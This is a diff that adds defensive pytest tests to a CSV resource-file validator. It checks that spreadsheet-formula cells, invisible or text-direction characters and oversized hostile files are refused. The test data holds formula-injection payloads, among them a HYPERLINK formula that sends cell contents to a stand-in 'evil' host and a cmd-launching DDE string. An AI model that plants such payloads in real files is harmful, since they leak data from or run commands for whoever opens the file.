@@ -178,3 +178,34 @@ def test_the_commands_check_load_and_show(tmp_path: Path) -> None:
     assert "interests: walking, nature" in shown.stdout
     missing = egonet(home, "resources", "check", str(tmp_path / "absent.csv"))
     assert missing.returncode == 1 and "cannot read the file" in missing.stderr
+
+
+# -- found by the probe ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-IMPORT()"],
+)
+def test_a_cell_a_spreadsheet_would_run_is_refused(cell: str) -> None:
+    """The secretary opens this very file in a spreadsheet."""
+    quoted = '"' + cell.replace('"', '""') + '"'
+    found = problems(f"{HEADER}walk,activity,{quoted},,,,,\n")
+    assert any("spreadsheet formula" in p or "control character" in p for p in found), found
+
+
+def test_a_phone_number_with_its_country_code_stays() -> None:
+    assert problems(f"{HEADER}walk,activity,Walking group,,,,+32 81 22 22 22,\n") == []
+
+
+@pytest.mark.parametrize("character", ["\u202e", "\u2028", "\u0085", "\u2066"])
+def test_invisible_and_direction_characters_are_refused(character: str) -> None:
+    assert any("control character" in p for p in problems(f"{HEADER}walk,activity,Walk{character}ing,,,,,\n"))
+
+
+def test_a_hostile_file_gets_a_short_answer() -> None:
+    """Found: 333,000 header cells took 110 s (a quadratic check) and 333,007 problems; 495,000
+    short rows made a 30 MB answer."""
+    assert len(problems("id," * 333_000 + "\n")) == 1
+    found = problems(HEADER + "a\n" * 200_000)
+    assert len(found) == 101 and "more problems" in found[-1]
